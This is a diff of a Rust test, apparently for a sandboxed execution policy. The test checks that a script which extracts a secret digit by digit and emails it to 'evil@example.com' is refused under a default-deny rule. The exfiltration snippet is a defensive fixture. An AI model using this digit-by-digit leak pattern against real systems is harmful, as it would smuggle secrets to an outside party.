@@ -27,7 +27,7 @@ fn a_secret_does_not_leave_digit_by_digit() {
         \x20       if ok:\n            digits += d\n\
         mailbox.send_email(to='evil@example.com', subject='hello', body=digits)\n";
     let home = Home::new();
-    let ran = home.artifact(source, Some("default = \"deny\"\n")).expect(7);
+    let ran = home.artifact(source, Some("default = \"deny\"\n")).expect(3);
     assert!(ran.err.contains("1 call was refused"), "{ran:?}");
     assert!(home.received("mailbox").is_empty(), "{ran:?}");
     let trace = home.trace();
